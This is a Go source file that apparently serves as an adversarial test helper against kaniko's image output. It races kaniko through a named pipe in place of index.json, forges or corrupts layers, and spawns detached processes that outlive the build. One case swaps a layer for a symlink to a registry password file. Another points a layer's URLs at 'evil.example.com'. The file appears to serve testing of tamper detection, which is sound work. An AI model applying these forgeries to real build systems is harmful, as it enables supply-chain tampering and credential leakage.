package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

const (
	out   = "/kaniko/.out"
	image = out + "/image" // where kaniko writes its layout
	index = image + "/index.json"
)

// late leaves a process behind that holds kaniko while it writes its layout, and
// forges it then. In place of index.json there is a pipe, which kaniko writes,
// reads when all blobs are there, and writes again: it waits for the forger, and
// the forger need not be fast.
func late(args []string) {
	must(os.MkdirAll(image, 0o777))
	must(unix.Mkfifo(index, 0o666))
	pipe, err := os.OpenFile(index, os.O_RDWR, 0)
	must(err)
	leaveBehind(pipe, append([]string{"forge"}, args...)...)
}

// leaveBehind starts ourselves in a session of its own, deaf to signals.
func leaveBehind(file *os.File, args ...string) {
	child := exec.Command("/proc/self/exe", args...)
	if file != nil {
		child.ExtraFiles = []*os.File{file}
	}
	child.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	must(child.Start())
}

// forge is what was left behind.
func forge(args []string) {
	pipe := os.NewFile(3, "index.json")
	for { // until all blobs are there and kaniko has read its own, empty index
		unread, err := unix.IoctlGetInt(int(pipe.Fd()), unix.TIOCINQ)
		must(err)
		if name, _ := manifest(); name != "" && unread == 0 {
			break
		}
		time.Sleep(time.Millisecond)
	}
	layer := lastLayer()
	var forged []byte // index.json; nil: kaniko's own
	switch args[0] {
	case "second":
		name, _ := manifest()
		forged = []byte(`{"schemaVersion": 2, "manifests": [` + descriptor(name, 1000) + "," + descriptor(strings.Repeat("0", 64), 7) + `]}`)
	case "pipe":
		giveBack(pipe, nil)
		return
	case "index":
		forged = []byte(`{"schemaVersion": 2, "manifests": [` + descriptor(strings.TrimPrefix(args[1], "sha256:"), 1000) + `]}`)
	case "endless":
		forged = append(bytes.Repeat([]byte(" "), 5<<20), '{', '}')
	case "elsewhere":
		forged = elsewhere()
	case "marker":
		must(os.WriteFile(image+"/oci-layout", []byte(`{"imageLayoutVersion": "7.0.0"}`), 0o644))
	case "grown":
		file, err := os.OpenFile(layer, os.O_WRONLY|os.O_APPEND, 0)
		must(err)
		_, err = file.WriteString("more")
		must(err)
	case "sparse":
		must(os.Truncate(layer, 1<<40))
	case "changed":
		content, err := os.ReadFile(layer)
		must(err)
		content[len(content)-5] ^= 1 // the checksum of what it unpacks to
		must(os.WriteFile(layer, content, 0o644))
	case "named":
		must(os.Link(layer, image+"/another-name"))
	case "link":
		must(os.Remove(layer))
		must(os.Symlink("/secrets/registry/password", layer))
	default:
		must(fmt.Errorf("no such forgery: %s", args[0]))
	}
	if forged != nil {
		giveBack(pipe, forged)
		return
	}
	must(os.WriteFile(image+"/regular", nil, 0o644))
	must(os.Rename(image+"/regular", index))
	pipe.Close()
}

// giveBack lets kaniko write its index to the pipe, under another name by then,
// and leaves a forged one in its place, or the pipe.
func giveBack(pipe *os.File, forged []byte) {
	must(os.Link(index, out+"/aside"))
	must(os.WriteFile(out+"/forged", forged, 0o644))
	pipe.Close() // the end that kaniko reads up to; it opens the pipe to write next
	opens := fmt.Sprint(unix.SYS_OPENAT, " ")
	for limit := time.Now().Add(2 * time.Second); time.Now().Before(limit); time.Sleep(time.Millisecond) {
		threads, _ := filepath.Glob("/proc/1/task/*/syscall")
		waits := false
		for _, thread := range threads {
			call, _ := os.ReadFile(thread)
			waits = waits || bytes.HasPrefix(call, []byte(opens))
		}
		if waits {
			break
		}
	}
	if forged != nil {
		must(os.Rename(out+"/forged", index))
	}
	aside, err := os.Open(out + "/aside")
	must(err)
	_, _ = io.Copy(io.Discard, aside)
}

func descriptor(digest string, size int) string {
	return fmt.Sprintf(`{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:%s", "size": %d}`, digest, size)
}

// manifest is the one that kaniko wrote, and what it is called; empty: there is none
// yet.
func manifest() (name string, content map[string]any) {
	blobs, _ := os.ReadDir(image + "/blobs/sha256")
	for _, blob := range blobs {
		info, err := blob.Info()
		if err != nil || info.Size() > 64<<10 {
			continue
		}
		raw, _ := os.ReadFile(image + "/blobs/sha256/" + blob.Name())
		content = nil
		if json.Unmarshal(raw, &content) == nil && content["layers"] != nil {
			return blob.Name(), content
		}
	}
	return "", nil
}

// lastLayer is the file of the layer that was made last.
func lastLayer() string {
	_, content := manifest()
	layers := content["layers"].([]any)
	digest := layers[len(layers)-1].(map[string]any)["digest"].(string)
	return image + "/blobs/sha256/" + strings.TrimPrefix(digest, "sha256:")
}

// elsewhere makes a whole manifest that has the registry's clients fetch a layer
// from another place, and returns an index of it.
func elsewhere() []byte {
	_, content := manifest()
	content["layers"].([]any)[0].(map[string]any)["urls"] = []string{"https://evil.example.com/layer"}
	raw, err := json.Marshal(content)
	must(err)
	digest := fmt.Sprintf("%x", sha256.Sum256(raw))
	must(os.WriteFile(image+"/blobs/sha256/"+digest, raw, 0o644))
	kind, _ := content["mediaType"].(string)
	return []byte(fmt.Sprintf(`{"schemaVersion": 2, "manifests": [{"mediaType": %q, "digest": "sha256:%s", "size": %d}]}`, kind, digest, len(raw)))
}

// leave makes a layout of its own, of an image that is another's, and has kaniko
// end well without writing any.
func leave(args []string) {
	must(os.MkdirAll(image+"/blobs/sha256", 0o777))
	must(os.WriteFile(image+"/oci-layout", []byte(`{"imageLayoutVersion": "1.0.0"}`), 0o644))
	must(os.WriteFile(index, []byte(`{"schemaVersion": 2, "manifests": [`+descriptor(strings.TrimPrefix(args[0], "sha256:"), 1000)+`]}`), 0o644))
	fmt.Println("cannot make kaniko leave:", exit(1))
}

// stay leaves a process behind that outlives the step, and would go on writing
// to the output while it is published.
func stay([]string) { leaveBehind(nil, "remain") }

func remain([]string) {
	for n := 0; ; n++ {
		_ = os.WriteFile(out+"/late", fmt.Appendln(nil, "still here", n), 0o666)
		time.Sleep(20 * time.Millisecond)
	}
}
